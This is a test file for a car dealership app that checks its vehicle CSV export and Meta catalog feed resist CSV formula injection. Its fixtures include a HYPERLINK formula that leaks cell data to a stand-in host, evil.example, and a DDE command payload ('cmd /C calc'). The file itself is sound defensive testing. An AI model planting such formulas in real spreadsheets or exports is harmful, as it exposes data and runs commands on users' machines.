// The stock export must not write formulas (OWASP CSV injection). The export is
// read back the way a spreadsheet reads a CSV file (RFC 4180 cells; a cell whose text starts with
// = + - or @, after any leading tab or carriage return, is a formula) and then imported again.
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { Vehicle } from '~/lib/vehicle';
import { metaCsv, metaRow, type MetaDealer } from '~/lib/feeds/meta-catalog';
import { parseVehicleCsv, vehiclesToCsv } from '~/lib/staff/vehicle/csv';
import { aVehicle } from '../support/vehicle';

const STORAGE = 'http://127.0.0.1:54321/storage/v1/object/public/vehicle-images/';

/** CSV text → its cells as a spreadsheet shows them, and which of them it would evaluate. */
function openAsSpreadsheet(csv: string): { cells: string[][]; formulas: string[] } {
  const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.filter((r) => r.length > 1);
  const formulas = cells.flat().filter((c) => /^[\t\r]*[=+\-@]/.test(c));
  return { cells, formulas };
}

const car = (over: Partial<Vehicle>): Vehicle =>
  aVehicle({
    id: 'a',
    make: 'Porsche',
    model: '911',
    year: 2021,
    price: 980000,
    transmission: 'Manual',
    condition: 'Very Good',
    bodyType: 'Coupe',
    color: 'GT Silver',
    features: ['PASM'],
    images: ['/seed/p2.svg'],
    vehicleDetails: '',
    origin: 'Recond',
    registrationYear: 2022,
    previousOwners: 1,
    warrantyMonths: 12,
    engineCapacityCc: 2981,
    stockNumber: 'P-911',
    ...over,
  });

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Open")';
const attack = car({
  make: HYPERLINK,
  model: '+SUM(1,2)',
  color: "'=kept apostrophe",
  features: ['-2+3', '@SUM(A1:A9)'],
  vehicleDetails: '=1+1\nsecond line',
});

describe('vehiclesToCsv against CSV injection', () => {
  it('writes no cell a spreadsheet would evaluate, each shown as text behind an apostrophe', () => {
    const { cells, formulas } = openAsSpreadsheet(vehiclesToCsv([attack]));
    expect(formulas).toEqual([]);
    const row = cells[1] ?? [];
    const header = cells[0] ?? [];
    const cell = (name: string) => row[header.indexOf(name)];
    expect(cell('make')).toBe(`'${HYPERLINK}`);
    expect(cell('model')).toBe("'+SUM(1,2)");
    expect(cell('color')).toBe("''=kept apostrophe");
    expect(cell('features')).toBe("'-2+3, @SUM(A1:A9)");
    expect(cell('fuel_type')).toBe('Gasoline');
    expect(cell('vehicle_details')).toBe("'=1+1\nsecond line");
    expect(cell('stock_number')).toBe('P-911');
  });

  it('neutralises a cell that starts with a tab or a carriage return', () => {
    const csv = vehiclesToCsv([car({ make: '\t=1+1', model: '\r=1+1' })]);
    expect(openAsSpreadsheet(csv).formulas).toEqual([]);
    expect(csv).toContain(`"'\t=1+1","'\r=1+1"`);
  });

  it('imports its own export back to the same values', () => {
    const parsed = parseVehicleCsv(new TextEncoder().encode(vehiclesToCsv([attack])).buffer as ArrayBuffer, STORAGE);
    if (!parsed.ok) throw new Error(parsed.message);
    expect(parsed.rows[0]?.error).toBeNull();
    expect(parsed.rows[0]?.input).toMatchObject({
      make: HYPERLINK,
      model: '+SUM(1,2)',
      color: "'=kept apostrophe",
      features: ['-2+3', '@SUM(A1:A9)'],
      vehicleDetails: '=1+1\nsecond line',
    });
  });
});

const DEALER: MetaDealer = {
  name: 'Mewah Motors',
  phone: '+60 3-2141 8888',
  street: '18 Jalan Mewah Jaya',
  area: 'Bukit Bintang',
  city: 'Kuala Lumpur',
  postcode: '55100',
  lat: 3.1466,
  lng: 101.7101,
};

describe("Meta's catalog feed against CSV injection", () => {
  it('writes make, model, trim and colour typed as formulas as text, through the same writer', () => {
    const row = metaRow(
      {
        vehicle: car({
          status: 'available',
          make: HYPERLINK,
          model: "+cmd|' /C calc'!A0",
          variant: '@SUM(1+1)',
          color: '-2+3',
        }),
        url: 'https://mewah.example/vehicle/a/',
        images: ['https://mewah.example/a.webp'],
        vin: null,
        description: 'A car.',
      },
      DEALER,
    );
    if (!row) throw new Error('the car is for sale: it has a row');
    const { cells, formulas } = openAsSpreadsheet(metaCsv([row]));
    // Only the dealer's phone number keeps its +: digits, spaces and hyphens spell no function,
    // reference or command (a spreadsheet shows #NULL! at worst), and Meta reads the country code.
    expect(formulas).toEqual(['+60 3-2141 8888']);
    const header = cells[0] ?? [];
    const cell = (name: string) => cells[1]?.[header.indexOf(name)];
    expect(cell('make')).toBe(`'${HYPERLINK}`);
    expect(cell('model')).toBe("'+cmd|' /C calc'!A0");
    expect(cell('trim')).toBe("'@SUM(1+1)");
    expect(cell('exterior_color')).toBe("'-2+3");
    expect(cell('dealer_phone')).toBe('+60 3-2141 8888');
  });
});
